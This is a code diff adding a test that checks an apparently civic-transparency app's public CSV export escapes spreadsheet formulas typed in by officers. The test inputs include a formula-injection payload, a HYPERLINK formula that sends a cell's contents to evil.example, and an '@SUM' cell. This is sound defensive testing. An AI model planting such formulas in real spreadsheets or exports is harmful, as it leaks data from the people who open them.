@@ -162,3 +162,20 @@ def test_disclosures_show_on_the_officers_requests(world: World) -> None:
         ).status_code
         == 403
     )
+
+
+def test_csv_cells_from_officers_cannot_run_as_formulas(world: World) -> None:
+    """Opened in a spreadsheet, the public CSV shows what officers typed as text."""
+    reply = world.client.post(
+        "/api/v1/disclosures",
+        headers=bearer(world.officer),
+        json={"vendor": "@SUM(1+1)", "what": "Camera", "value": "99", "received_on": "2024-01-15"},
+    )
+    assert reply.status_code == 201, reply.text
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert world.request(case=formula).status_code == 201
+    text = world.client.get("/api/v1/transparency/csv", params={"table": "requests"}).text
+    (row,) = list(csv.DictReader(io.StringIO(text)))
+    assert row["case_number"] == "'" + formula
+    assert row["disclosures"].startswith("'@SUM(1+1): Camera")
+    assert float(row["lon"]) < 0  # numbers stay numbers, minus sign and all
